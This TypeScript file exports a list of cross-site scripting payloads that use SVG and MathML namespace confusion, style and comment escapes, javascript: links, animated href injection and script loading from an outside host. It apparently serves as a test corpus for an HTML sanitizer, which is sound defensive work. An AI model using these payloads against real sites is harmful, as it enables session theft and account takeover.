import { image, outside, script } from './payload.ts';

const escapesOfSvg = ['desc', 'title', 'foreignObject'];
const escapesOfMath = ['mi', 'mo', 'mn', 'ms', 'mtext', 'annotation-xml'];

export const namespaces: readonly string[] = [
  ...escapesOfSvg.flatMap((name) => [
    `<svg><${name}>${image}</${name}></svg>`,
    `<svg><${name}><style><p title="</style>${image}"></${name}></svg>`,
    `<svg></p><${name}><p><style><!--</style>${image}--></style>`,
  ]),
  ...escapesOfMath.flatMap((name) => [
    `<math><${name}>${image}</${name}></math>`,
    `<math><${name}><table><mglyph><style><!--</style><img title="--&gt;${image}">`,
    `<math><${name}><mglyph><svg><mtext><textarea><path id="</textarea>${image}">`,
  ]),
  `<svg><script>${script}</script></svg>`,
  `<svg><script href="data:,${script}"/></svg>`,
  `<svg><script xlink:href="${outside}/x.js"></script></svg>`,
  `<svg><script>&#119;indow.ran=1</script></svg>`,
  `<svg><style>&lt;img src=x onerror=${script}&gt;</style></svg>`,
  `<svg><style><![CDATA[</style>${image}]]></svg>`,
  `<svg><![CDATA[><image xlink:href="]]>${image}"></svg>`,
  `<svg><a xlink:href="javascript:${script}"><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><animate attributeName=href values="javascript:${script}"/><text x=20 y=20>x</text></a></svg>`,
  `<svg><a><set attributeName=href to="javascript:${script}"/><text x=20 y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${script}'/></svg>#x"/></svg>`,
  `<svg><use xlink:href="${outside}/x.svg#x"/></svg>`,
  `<svg><image href="${outside}/x.png"/></svg>`,
  `<svg><feImage href="${outside}/x.png"/></svg>`,
  `<svg><animate onbegin=${script} attributeName=x dur=1s>`,
  `<svg><handler type=application/javascript ev:event=load>${script}</handler></svg>`,
  `<svg xmlns="http://www.w3.org/2000/svg"><p><style><g title="</style>${image}"></svg>`,
  `<svg><p><title><style><img title="</style>${image}"></title></p></svg>`,
  `<svg/><p>${image}`,
  `<math><maction actiontype=statusline xlink:href="javascript:${script}">x</maction></math>`,
  `<math href="javascript:${script}">x</math>`,
  `<math><style><p title="</style>${image}"></math>`,
  `<math></br><style><!--</style>${image}--></math>`,
  `<math><annotation-xml encoding="text/html">${image}</annotation-xml></math>`,
  `<math><semantics><annotation-xml encoding="application/xhtml+xml">${image}</annotation-xml></semantics></math>`,
  `<math><mi xlink:href="data:x,${script}">x</mi></math>`,
  `<html:script xmlns:html="http://www.w3.org/1999/xhtml">${script}</html:script>`,
  `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${script}</x:script>`,
  `<p xmlns:xlink="javascript:${script}">x</p>`,
  `<xml id=x><a><b>&lt;img src=x onerror=${script}&gt;</b></a></xml><span datasrc=#x dataformatas=html></span>`,
];
